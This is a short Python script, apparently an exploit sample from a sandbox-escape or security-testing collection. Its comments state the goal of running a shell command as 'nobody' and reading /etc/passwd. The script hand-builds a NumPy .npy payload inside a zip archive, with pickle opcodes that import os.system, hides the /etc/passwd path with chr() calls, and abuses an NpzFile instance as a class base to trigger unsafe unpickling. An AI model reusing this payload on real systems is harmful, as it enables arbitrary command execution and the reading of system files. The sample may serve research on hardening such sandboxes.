# source: Python data model (metaclass = type(base) for an instance base); numpy/lib/npyio.py NpzFile(fid, own_fid, allow_pickle); pickle protocol 0 'c' opcode (find_class)
# family: instance used as a class base -> NpzFile constructed with allow_pickle=<class namespace>; pickle GLOBAL opcode imports os
# goal: os.system('id; head -3 /etc/passwd') -- shell command as nobody, reads /etc/passwd
import numpy as np
import pandas as pd
hdr = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
hdr = hdr + " " * (117 - len(hdr))
first = chr(147) + "NUMPY" + chr(1) + chr(0) + chr(118) + chr(0) + hdr
cmd = "id; head -3 " + chr(47) + "etc" + chr(47) + "passwd"
rows = [first, "c" + "o" + "s", "system", "(S'" + cmd + "'", "tR."]
df = pd.DataFrame({"a": rows})
df.to_csv("G", compression={"method": "zip", "archive_name": "x.npy"}, index=False, header=False, encoding="latin-1", sep="\t", quotechar="~", lineterminator="\n")
np.savez("a.npz", x=np.zeros(2))
z = np.load("a.npz")
class G(z):
    y = 1
print(G["x"])
